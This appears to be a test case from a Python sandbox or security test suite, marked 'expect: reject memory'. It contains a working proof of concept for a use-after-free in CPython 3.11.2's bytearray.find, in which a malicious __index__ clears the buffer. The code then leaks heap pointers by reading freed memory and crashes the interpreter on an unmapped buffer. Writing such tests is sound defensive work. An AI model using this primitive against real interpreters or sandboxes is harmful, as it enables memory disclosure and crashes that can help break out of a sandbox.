# expect: reject memory
# line: 16
# why: round 77: bytearray.find takes the buffer, then converts start with the program's __index__, which clears the bytearray: a read of freed memory (verified under 3.11.2)
# mechanism: bytearray.find/startswith/count take the buffer pointer and length, then convert start/end with the program's __index__ (legacy _Py_bytes_find arg parsing, 3.11.2); an __index__ that clears the bytearray frees the buffer and the search reads freed memory: reclaimed by a tuple it leaks heap pointers, and a 16 MiB buffer (munmapped) gives SIGSEGV.
keep = [None] * 20000
n = [0]
cur = [None]
marker = object()
drain = [tuple([i, i, i]) for i in range(5000)]  # empty the 3-tuple free list


class Start:
    def __init__(self, at):
        self.at = at

    def __index__(self):
        cur[0].clear()
        t = tuple([marker, marker, marker])
        keep[n[0]] = t
        n[0] += 1
        return self.at


def byte_at(k):
    for v in range(256):
        ba = bytearray(63)
        cur[0] = ba
        if ba.find(bytes([v]), Start(k), k + 1) == k:
            return v
    return -1


def word_at(k):
    return sum([byte_at(k + i) << (8 * i) for i in range(8)])


print("word read from the freed buffer:", hex(word_at(40)), " id(marker):", hex(id(marker)))
print("word read from the freed buffer:", hex(word_at(48)), " id(marker):", hex(id(marker)))

big = bytearray(b"A" * (1 << 24))


class Unmap:
    def __index__(self):
        big.clear()
        return 0


print("now reading a munmapped buffer:")
print(big.find(b"B", Unmap()))
